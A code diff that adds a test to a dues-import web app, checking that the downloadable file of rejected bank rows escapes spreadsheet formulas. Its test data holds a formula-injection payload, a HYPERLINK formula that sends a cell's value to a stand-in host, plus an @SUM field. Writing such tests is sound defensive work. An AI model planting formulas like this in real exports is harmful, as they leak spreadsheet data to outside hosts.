@@ -74,6 +74,15 @@ def test_every_bad_row_is_shown_and_can_be_downloaded_and_left_out(rosa: Member,
     assert Due.objects.count() == 1
 
 
+def test_what_a_bank_wrote_is_no_formula_in_the_file_of_rejects(rosa: Member, teresa: User) -> None:
+    browser = client_of(teresa)
+    upload(browser, '=HYPERLINK("http://malo.example/?"&A1);colegiado;03/2025;-30.00;31/03/2025;@SUM(A1)')
+    draft = ImportDraft.objects.get()
+    rejected = browser.get(f"{UPLOAD}{draft.pk}/rechazos.csv").getvalue().decode("utf-8-sig").splitlines()
+    assert rejected[1].startswith("\"'=HYPERLINK(")
+    assert ";-30.00;31/03/2025;'@SUM(A1);" in rejected[1]
+
+
 def test_a_total_that_differs_is_confirmed_by_a_tick(rosa: Member, teresa: User) -> None:
     browser = client_of(teresa)
     shown = upload(browser, MARCH, control_total="31.00").content.decode()
